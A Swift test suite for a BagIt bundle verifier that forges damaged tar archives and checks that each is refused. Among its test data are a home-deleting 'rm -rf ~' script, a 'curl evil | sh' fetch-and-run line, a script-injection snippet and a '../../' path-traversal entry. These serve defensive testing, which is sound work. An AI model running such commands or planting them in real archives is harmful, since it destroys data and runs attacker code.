import Crypto
import Foundation
import RenkeiPipeline
import Testing

@testable import RenkeiBundle

/// Whole bags forged by hand, valid or damaged in one chosen way.
enum BagForge {
    static func digest(_ bytes: [UInt8]) -> String { SHA256.hash(data: bytes).map { String(format: "%02x", $0) }.joined() }

    /// The tar bytes (not compressed) of a bag `folder` holding `payload` (paths under `data/`).
    /// `manifestNames` respells a path in the manifest; `extras` are files outside `data/`,
    /// listed in the tag manifest only when `listExtras`.
    static func tar(
        _ payload: [String: [UInt8]], folder: String = "bag", manifestNames: [String: String] = [:],
        extras: [String: [UInt8]] = [:], listExtras: Bool = false, extraEntries: [UInt8] = []
    ) throws -> [UInt8] {
        let sink = MemorySink()
        let tar = TarWriter(output: sink, modificationTime: 0)
        let manifest = payload.keys.sorted().map { "\(digest(payload[$0]!))  data/\(manifestNames[$0] ?? $0)\n" }.joined()
        let size = payload.values.reduce(0) { $0 + $1.count }
        var tags: [String: [UInt8]] = [
            "bagit.txt": Array("BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n".utf8),
            "bag-info.txt": Array("Payload-Oxum: \(size).\(payload.count)\n".utf8),
            "manifest-sha256.txt": Array(manifest.utf8),
        ]
        let listed = listExtras ? tags.merging(extras) { a, _ in a } : tags
        tags["tagmanifest-sha256.txt"] = Array(listed.keys.sorted().map { "\(digest(listed[$0]!))  \($0)\n" }.joined().utf8)
        tags.merge(extras) { a, _ in a }
        try tar.addDirectory(folder)
        try tar.addDirectory(folder + "/data")
        for (path, bytes) in payload.sorted(by: { $0.key < $1.key }) { try tar.addFile("\(folder)/data/\(path)", bytes: bytes) }
        for (path, bytes) in tags.sorted(by: { $0.key < $1.key }) { try tar.addFile("\(folder)/\(path)", bytes: bytes) }
        return sink.bytes + extraEntries + ArchiveForge.end
    }

    static func file(_ tar: [UInt8]) throws -> String { ArchiveForge.write(try ArchiveForge.gzip(tar)) }

    /// A header block with `field` (offset, bytes) replaced and the checksum recomputed.
    static func header(_ name: String, size: UInt64, type: Character = "0", replacing fields: [(Int, [UInt8])]) -> [UInt8] {
        var block = TarWriter.header(name: Array(name.utf8), size: size, type: type, mode: 0o644, mtime: 0)
        for (offset, bytes) in fields { for (i, b) in bytes.enumerated() { block[offset + i] = b } }
        for i in 148..<156 { block[i] = 0x20 }
        let sum = block.reduce(0) { $0 + Int($1) }
        let text = Array(String(sum, radix: 8).utf8)
        let digits = [UInt8](repeating: UInt8(ascii: "0"), count: 6 - text.count) + text
        for (i, b) in (digits + [0, 0x20]).enumerated() { block[148 + i] = b }
        return block
    }
}

@Suite("Archive reader: parser agreement, limits, one pass, end of stream, names", .serialized)
struct ArchiveReaderTests {
    /// One real bundle of the example data, made once.
    struct Sample: Sendable {
        let archive: String, signed: String, rawKey: Data, out: String
        var key: Curve25519.Signing.PrivateKey { try! Curve25519.Signing.PrivateKey(rawRepresentation: rawKey) }
    }
    static let sample: Sample = {
        let data = TestSupport.exampleDirectory([:])
        defer { try? FileManager.default.removeItem(atPath: data) }
        let out = NSTemporaryDirectory() + "renkei-reader-\(UUID().uuidString)"
        TestSupport.removeAtExit(out)
        let key = Curve25519.Signing.PrivateKey()
        let plain = try! BundleJob(dataDirectory: data, outputDirectory: out + "/plain").run().result!
        var signedJob = BundleJob(dataDirectory: data, outputDirectory: out + "/signed")
        signedJob.signingKey = key
        let signed = try! signedJob.run().result!
        return Sample(archive: plain.archive, signed: signed.archive, rawKey: key.rawRepresentation, out: out)
    }()

    static func bytes(_ path: String) throws -> [UInt8] { [UInt8](try Data(contentsOf: URL(fileURLWithPath: path))) }

    static func inflate(_ path: String) throws -> [UInt8] {
        let reader = try GzipReader(path: path)
        var out: [UInt8] = []
        while true {
            let piece = try reader.read(1 << 20)
            if piece.isEmpty { return out }
            out += piece
        }
    }

    func refuses(_ path: String, _ reason: String, _ comment: Comment? = nil) throws {
        let into = NSTemporaryDirectory() + "renkei-into-\(UUID().uuidString)"
        defer { try? FileManager.default.removeItem(atPath: into) }
        for extract in [false, true] {
            do {
                _ = extract ? try BundleJob.verifier().extract(path, into: into) : try BundleJob.verifier().verify(path)
                Issue.record("accepted (\(extract ? "extract" : "verify")): \(comment?.rawValue ?? reason)")
            } catch let error as BundleError {
                #expect(error.description.contains(reason), "\(comment?.rawValue ?? ""): \(error)")
            }
        }
        let written = (try? FileManager.default.contentsOfDirectory(atPath: into)) ?? []
        #expect(written.isEmpty, "wrote \(written)")
    }

    // MARK: 1. Numeric fields are read as tar reads them, or refused.

    static let numericFields: [(String, [UInt8])] = [
        ("leading spaces", Array("    0001000\0".utf8)),
        ("no terminator", Array("000000000010".utf8)),
        ("non-octal digit", Array("0000000008\0\0".utf8)),
        ("base-256", [0x80] + [UInt8](repeating: 0, count: 10) + [0x10]),
        ("empty", [UInt8](repeating: 0, count: 12)),
        ("space inside", Array("00000 00010\0".utf8)),
    ]

    @Test("A size field that is not canonical octal is refused, not read as 0", arguments: numericFields.indices)
    func nonCanonicalSize(_ index: Int) throws {
        let (name, field) = Self.numericFields[index]
        // What GNU tar and Python read as a 512-byte body holding another header.
        let hidden = ArchiveForge.entry("../../escaped.txt", body: Array("escaped".utf8))
        let tar = BagForge.header("bag/a", size: 512, replacing: [(124, field)]) + Array(hidden.prefix(512)) + ArchiveForge.end
        let path = try BagForge.file(tar)
        defer { try? FileManager.default.removeItem(atPath: path) }
        try refuses(path, "not in canonical form", "\(name)")
    }

    @Test("Every header Renkei reads, Python's tarfile and GNU tar read with the same names and sizes")
    func agreesWithPython() throws {
        guard let python = TestSupport.executable("python3") else {
            print("SKIPPED differential check: no python3")
            return
        }
        let variants: [[UInt8]] = [
            Array("00000001000\0".utf8), Array("00000001000 ".utf8), Array("0000001000 \0".utf8), Array("1000\0\0\0\0\0\0\0\0".utf8),
        ]
        for field in variants {
            let tar = BagForge.header("bag/a", size: 512, replacing: [(124, field)]) + [UInt8](repeating: 65, count: 512) + ArchiveForge.end
            let path = try BagForge.file(tar)
            defer { try? FileManager.default.removeItem(atPath: path) }
            let reader = TarReader(source: try GzipReader(path: path))
            var ours: [String] = []
            while let entry = try reader.next() { ours.append("\(entry.name) \(entry.size)") }
            let theirs = try TestSupport.run(python, ["-c", "import tarfile,sys\nfor m in tarfile.open(sys.argv[1]): print(m.name, m.size)", path])
            #expect(theirs.code == 0, "\(theirs.err)")
            #expect(ours == theirs.out.split(separator: "\n").map(String.init), "\(String(decoding: field, as: UTF8.self))")
            // GNU tar too: `tar -tvz` prints the size before the date and the name last.
            let gnu = try TestSupport.run("/bin/tar", ["--quoting-style=literal", "-tvzf", path])
            #expect(gnu.code == 0, "\(gnu.err)")
            let listed = gnu.out.split(separator: "\n").map { line -> String in
                let parts = line.split(separator: " ", omittingEmptySubsequences: true)
                return "\(parts.last ?? "") \(parts.count > 2 ? parts[2] : "")"
            }
            #expect(ours == listed, "GNU tar: \(gnu.out)")
        }
    }

    @Test("Old-style headers, a GNU header with a prefix, unknown pax keys and stacked pax headers are refused")
    func ambiguousHeaders() throws {
        let cases: [([UInt8], String)] = [
            (BagForge.header("bag/a", size: 0, replacing: [(257, [UInt8](repeating: 0, count: 8))]) + ArchiveForge.end, "neither POSIX ustar nor GNU"),
            (BagForge.header("a", size: 0, replacing: [(257, Array("ustar  \0".utf8)), (345, Array("bag".utf8))]) + ArchiveForge.end, "prefix field"),
            (ArchiveForge.entry("p", type: "x", body: TarWriter.paxRecord("GNU.sparse.size", "9")) + ArchiveForge.entry("bag/a") + ArchiveForge.end, "is not supported"),
            (ArchiveForge.entry("p", type: "x", body: TarWriter.paxRecord("path", "bag/a")) + ArchiveForge.entry("q", type: "x", body: TarWriter.paxRecord("path", "bag/b"))
                + ArchiveForge.entry("bag/c") + ArchiveForge.end, "two pax headers"),
            (ArchiveForge.entry("p", type: "x", body: TarWriter.paxRecord("path", "bag/a") + TarWriter.paxRecord("path", "bag/b")) + ArchiveForge.entry("bag/c") + ArchiveForge.end, "twice"),
            (ArchiveForge.entry("bag/file/", body: []) + ArchiveForge.end, "ending in '/'"),
            (ArchiveForge.entry("p", type: "x", body: TarWriter.paxRecord("size", "+5")) + ArchiveForge.entry("bag/a") + ArchiveForge.end, "is not a number"),
        ]
        for (tar, reason) in cases {
            let path = try BagForge.file(tar)
            defer { try? FileManager.default.removeItem(atPath: path) }
            try refuses(path, reason)
        }
    }

    // MARK: 2. Deep and long names are refused while verifying.

    @Test("A name 30,000 folders deep, over 1024 bytes or with a 256-byte component is refused; extract does not crash")
    func deepNames() throws {
        let deep = "bag/" + String(repeating: "d/", count: 30_000) + "f"
        let cases: [(String, String)] = [
            (deep, "longer than 1024 bytes"),
            ("bag/" + String(repeating: "d/", count: 60) + "f", "folders deep, more than 48"),
            ("bag/data/" + String(repeating: "x", count: 256), "a name longer than 255 bytes"),
        ]
        for (name, reason) in cases {
            let tar = ArchiveForge.entry("PaxHeaders/1", type: "x", body: TarWriter.paxRecord("path", name)) + ArchiveForge.entry("short", body: [1]) + ArchiveForge.end
            let path = try BagForge.file(tar)
            defer { try? FileManager.default.removeItem(atPath: path) }
            try refuses(path, reason)
        }
        let tar = ArchiveForge.entry("PaxHeaders/1", type: "x", body: TarWriter.paxRecord("path", deep)) + ArchiveForge.entry("short", body: [1]) + ArchiveForge.end
        let path = try BagForge.file(tar)
        let into = NSTemporaryDirectory() + "renkei-into-\(UUID().uuidString)"
        defer { for p in [path, into] { try? FileManager.default.removeItem(atPath: p) } }
        let cli = try TestSupport.renkei(["verify", path, "--extract", into])
        #expect(cli.code == 1, "\(cli.err)")
        #expect(((try? FileManager.default.contentsOfDirectory(atPath: into)) ?? []).isEmpty)
    }

    // MARK: 3. One pass: what is extracted is what was verified.

    @Test("--extract reads the archive once: a FIFO works and a second writer is never read")
    func extractFromFIFO() throws {
        let genuine = try Self.bytes(Self.sample.archive)
        var tampered = try Self.inflate(Self.sample.archive)
        // Change a byte inside the first payload file's body, keeping the tar framing valid.
        let needle = Array("themes".utf8)
        let at = try #require((0..<(tampered.count - needle.count)).first { Array(tampered[$0..<$0 + needle.count]) == needle })
        tampered[at] = UInt8(ascii: "T")
        let tamperedGzip = try ArchiveForge.gzip(tampered)
        let fifo = NSTemporaryDirectory() + "renkei-fifo-\(UUID().uuidString)"
        let into = NSTemporaryDirectory() + "renkei-into-\(UUID().uuidString)"
        defer { for p in [fifo, into] { try? FileManager.default.removeItem(atPath: p) } }
        #expect(mkfifo(fifo, 0o600) == 0)
        // The genuine archive for the first reader. A reader that opens the FIFO again (as a
        // verify-then-reopen extractor would) gets the tampered archive; once the extraction
        // has returned nobody may be reading, so the second open finds no reader.
        let extracted = DispatchSemaphore(value: 0), writerDone = DispatchSemaphore(value: 0)
        let writer = Thread {
            let first = open(fifo, O_WRONLY)
            genuine.withUnsafeBytes { _ = write(first, $0.baseAddress, $0.count) }
            close(first)
            _ = extracted.wait(timeout: .now() + 3)
            for _ in 0..<50 {
                let second = open(fifo, O_WRONLY | O_NONBLOCK)
                if second >= 0 {
                    tamperedGzip.withUnsafeBytes { _ = write(second, $0.baseAddress, $0.count) }
                    close(second)
                    break
                }
                usleep(20_000)
            }
            writerDone.signal()
        }
        writer.start()
        let outcome = Result { try BundleJob.verifier().extract(fifo, into: into) }
        extracted.signal()
        writerDone.wait()
        let report = try outcome.get()
        // Every extracted file is byte for byte the genuine archive's.
        let reader = TarReader(source: try GzipReader(path: Self.sample.archive))
        var files = 0
        while let entry = try reader.next() {
            var body: [UInt8] = []
            try reader.readBody { body += $0 }
            guard entry.kind == .file else { continue }
            files += 1
            #expect(try Self.bytes(into + "/" + entry.name) == body, "\(entry.name)")
        }
        #expect(files > 5)
        #expect(try FileManager.default.contentsOfDirectory(atPath: into) == [report.folder])
    }

    @Test("verify - reads standard input, with --extract too")
    func standardInput() throws {
        let into = NSTemporaryDirectory() + "renkei-into-\(UUID().uuidString)"
        defer { try? FileManager.default.removeItem(atPath: into) }
        let result = try TestSupport.run("/bin/sh", ["-c", "\"$0\" verify - --extract \"$1\" < \"$2\"", TestSupport.renkeiExecutable, into, Self.sample.archive])
        #expect(result.code == 0, "\(result.err)")
        #expect(result.out.contains("-: verified"))
    }

    // MARK: 4 and 6. Files outside data/: few, small, and every one listed.

    @Test("A file outside data/ that no manifest lists is refused, signed or not")
    func unlistedTagFiles() throws {
        let payload = ["a.txt": Array("a".utf8)]
        let listed = try BagForge.file(BagForge.tar(payload, extras: ["extra.txt": [1]], listExtras: true))
        defer { try? FileManager.default.removeItem(atPath: listed) }
        #expect(try BundleJob.verifier().verify(listed).payloadFiles == 1, "a listed extra tag file is fine")
        let unlisted = try BagForge.file(BagForge.tar(payload, extras: ["install.sh": Array("rm -rf ~\n".utf8)]))
        defer { try? FileManager.default.removeItem(atPath: unlisted) }
        try refuses(unlisted, "install.sh is a file outside data/ that no manifest lists")
        let many = try BagForge.file(BagForge.tar(payload, extras: Dictionary(uniqueKeysWithValues: (0..<20).map { ("t\($0).txt", [UInt8($0)]) }), listExtras: true))
        defer { try? FileManager.default.removeItem(atPath: many) }
        try refuses(many, "more than 16 files outside data/")
        let folder = try BagForge.file(BagForge.tar(payload, extraEntries: TarWriter.header(name: Array("bag/www/".utf8), size: 0, type: "5", mode: 0o755, mtime: 0)))
        defer { try? FileManager.default.removeItem(atPath: folder) }
        try refuses(folder, "is outside data/")
    }

    @Test("A tag file over its limit is refused before it is read into memory")
    func tagFileLimit() throws {
        let big = ArchiveForge.entry("bag/bag-info.txt", body: [], size: 2 << 20)
        let path = try BagForge.file(big + [UInt8](repeating: 65, count: 2 << 20) + ArchiveForge.end)
        defer { try? FileManager.default.removeItem(atPath: path) }
        try refuses(path, "bag-info.txt' is 2097152 bytes, more than the limit of 1048576")
    }

    @Test("A signed bundle with files added outside data/ fails verify --key and is not extracted")
    func signedBagWithExtras() throws {
        let work = NSTemporaryDirectory() + "renkei-signed-\(UUID().uuidString)"
        defer { try? FileManager.default.removeItem(atPath: work) }
        try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
        #expect(try TestSupport.run("/bin/tar", ["-xzf", Self.sample.signed, "-C", work]).code == 0)
        let folder = try FileManager.default.contentsOfDirectory(atPath: work)[0]
        for (name, text) in [("install.sh", "#!/bin/sh\ncurl evil | sh\n"), ("index.html", "<script>alert(1)</script>")] {
            try text.write(toFile: "\(work)/\(folder)/\(name)", atomically: false, encoding: .utf8)
            let repacked = work + "/repacked-\(name).tar.gz"
            #expect(try TestSupport.run("/bin/tar", ["-czf", repacked, "-C", work, folder]).code == 0)
            #expect(throws: BundleError.bag("\(name) is a file outside data/ that no manifest lists")) {
                try BundleJob.verifier(requiredKey: Self.sample.key.publicKey).verify(repacked)
            }
            try refuses(repacked, "no manifest lists")
            try FileManager.default.removeItem(atPath: "\(work)/\(folder)/\(name)")
        }
        let repacked = work + "/clean.tar.gz"
        #expect(try TestSupport.run("/bin/tar", ["-czf", repacked, "-C", work, folder]).code == 0)
        #expect(try BundleJob.verifier(requiredKey: Self.sample.key.publicKey).verify(repacked).signed, "GNU tar's repack of the untouched bag verifies")
    }

    // MARK: 5. The end of the stream.

    @Test("A cut trailer, trailing bytes, a second member, blocks after the end or a bad CRC are refused")
    func endOfStream() throws {
        let whole = try Self.bytes(Self.sample.archive)
        let tar = try Self.inflate(Self.sample.archive)
        var badCRC = whole
        badCRC[whole.count - 8] ^= 0xFF
        var badLength = whole
        badLength[whole.count - 4] ^= 0x01
        let cases: [([UInt8], String)] = [
            (Array(whole.dropLast(8)), "ends early"),
            (Array(whole.dropLast(1)), "ends early"),
            (whole + Array("garbage".utf8), "data follows the end of the gzip stream"),
            (whole + [0], "data follows the end of the gzip stream"),
            (whole + (try ArchiveForge.gzip(ArchiveForge.entry("bag/evil", body: [1]) + ArchiveForge.end)), "a second gzip member"),
            (try ArchiveForge.gzip(tar + ArchiveForge.entry("bag/late", body: [1]) + ArchiveForge.end), "data follows the end-of-archive marker"),
            (badCRC, "incorrect data check"),
            (badLength, "incorrect length check"),
        ]
        for (bytes, reason) in cases {
            let path = ArchiveForge.write(bytes)
            defer { try? FileManager.default.removeItem(atPath: path) }
            try refuses(path, reason)
        }
        // Zero blocks after the marker (a tar's record padding) are fine.
        let padded = ArchiveForge.write(try ArchiveForge.gzip(tar + [UInt8](repeating: 0, count: 10240)))
        defer { try? FileManager.default.removeItem(atPath: padded) }
        #expect(try BundleJob.verifier().verify(padded).payloadFiles > 0)
        // The command names the file and zlib's reason.
        let path = ArchiveForge.write(badCRC)
        defer { try? FileManager.default.removeItem(atPath: path) }
        let cli = try TestSupport.renkei(["verify", path])
        #expect(cli.code == 1)
        #expect(cli.err.contains(path) && cli.err.contains("incorrect data check"), "\(cli.err)")
    }

    // MARK: 7. One normalisation rule for names.

    @Test("A manifest or an entry naming a file in NFD is refused; control characters and backslashes too")
    func namesInNFC() throws {
        let nfc = "caf\u{E9}.yaml", nfd = "cafe\u{301}.yaml"
        #expect(Array(nfc.utf8) != Array(nfd.utf8))
        let respelled = try BagForge.file(BagForge.tar([nfc: [1]], manifestNames: [nfc: nfd]))
        defer { try? FileManager.default.removeItem(atPath: respelled) }
        try refuses(respelled, "is not in Unicode NFC")
        let good = try BagForge.file(BagForge.tar([nfc: [1]]))
        defer { try? FileManager.default.removeItem(atPath: good) }
        #expect(try BundleJob.verifier().verify(good).payloadFiles == 1)
        for (name, reason) in [(nfd, "is not in Unicode NFC"), ("a\\b.yaml", "has a backslash"), ("a\nb.yaml", "control character"), ("a\u{1B}[2Jb", "control character")] {
            let path = try BagForge.file(BagForge.tar([name: [1]]))
            defer { try? FileManager.default.removeItem(atPath: path) }
            try refuses(path, reason, "\(name.debugDescription)")
        }
    }

    @Test("bundle writes names in NFC, refuses two spellings of one name and backslashes, and its own verify accepts what it writes")
    func bundleNames() throws {
        let nfc = "caf\u{E9}.yaml", nfd = "cafe\u{301}.yaml"
        // (A dictionary literal cannot hold both: Swift's strings call them equal.)
        let both = TestSupport.exampleDirectory([nfc: "themes: []\n"])
        let descriptor = open(both + "/" + nfd, O_WRONLY | O_CREAT | O_EXCL, 0o644)
        try #require(descriptor >= 0)
        _ = write(descriptor, "themes: []\n", 11)
        close(descriptor)
        let slash = TestSupport.exampleDirectory(["a\\b.yaml": "themes: []\n"])
        let decomposed = TestSupport.exampleDirectory([nfd: "themes: []\n"])
        let out = NSTemporaryDirectory() + "renkei-names-\(UUID().uuidString)"
        defer { for p in [both, slash, decomposed, out] { try? FileManager.default.removeItem(atPath: p) } }
        try #require(try FileManager.default.contentsOfDirectory(atPath: both).filter { $0.hasPrefix("caf") }.count == 2)
        do {
            _ = try BundleJob(dataDirectory: both, outputDirectory: out).run()
            Issue.record("two spellings of one name were bundled")
        } catch let error as BundleError {
            #expect(error.description.contains("the same name in Unicode NFC"), "\(error)")
        }
        do {
            _ = try BundleJob(dataDirectory: slash, outputDirectory: out).run()
            Issue.record("a backslash was bundled")
        } catch let error as BundleError {
            #expect(error.description.contains("backslash"), "\(error)")
        }
        #expect(((try? FileManager.default.contentsOfDirectory(atPath: out)) ?? []).isEmpty)
        let result = try #require(try BundleJob(dataDirectory: decomposed, outputDirectory: out).run().result)
        let into = out + "/x"
        let report = try BundleJob.verifier().extract(result.archive, into: into)
        let names = try FileManager.default.contentsOfDirectory(atPath: "\(into)/\(report.folder)/data/source")
        #expect(names.contains { Array($0.utf8) == Array(nfc.utf8) }, "\(names.map { Array($0.utf8) })")
    }

    @Test("verify of a bag holding a WAL-mode database leaves nothing in TMPDIR")
    func walDatabaseLeavesNothing() throws {
        let work = NSTemporaryDirectory() + "renkei-wal-\(UUID().uuidString)"
        defer { try? FileManager.default.removeItem(atPath: work) }
        try FileManager.default.createDirectory(atPath: work + "/tmp", withIntermediateDirectories: true)
        let db = work + "/wal.sqlite"
        let made = try TestSupport.run("/usr/bin/sqlite3", [db, "PRAGMA journal_mode=WAL; CREATE TABLE t(x); INSERT INTO t VALUES (1);"])
        try #require(made.code == 0, "\(made.err)")
        let bytes = try Self.bytes(db)
        #expect(bytes[18] == 2 && bytes[19] == 2, "the file is in WAL mode")
        let archive = try BagForge.file(BagForge.tar(["renkei.sqlite": bytes]))
        defer { try? FileManager.default.removeItem(atPath: archive) }
        var environment = ProcessInfo.processInfo.environment
        environment["TMPDIR"] = work + "/tmp/"
        let result = try TestSupport.renkei(["verify", archive], environment: environment)
        #expect(result.code == 0, "\(result.err)")
        #expect(result.out.contains("SQLite integrity check ok"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: work + "/tmp").isEmpty)
    }

    @Test("Leftovers of dead processes are removed; a live process's are kept")
    func staleLeftovers() throws {
        let directory = NSTemporaryDirectory() + "renkei-stale-\(UUID().uuidString)"
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let dead = try TestSupport.run("/bin/sh", ["-c", "echo $$"]).out.trimmingCharacters(in: .whitespacesAndNewlines)
        for name in [".renkei-extract-\(dead)", ".renkei-extract-\(getpid())", ".renkei-extract-x"] {
            try FileManager.default.createDirectory(atPath: directory + "/" + name, withIntermediateDirectories: true)
        }
        #expect(LeftoverFiles.removeStale(in: directory, prefix: ".renkei-extract-") == [directory + "/.renkei-extract-\(dead)"])
        #expect(try FileManager.default.contentsOfDirectory(atPath: directory).sorted() == [".renkei-extract-\(getpid())", ".renkei-extract-x"])
    }
}
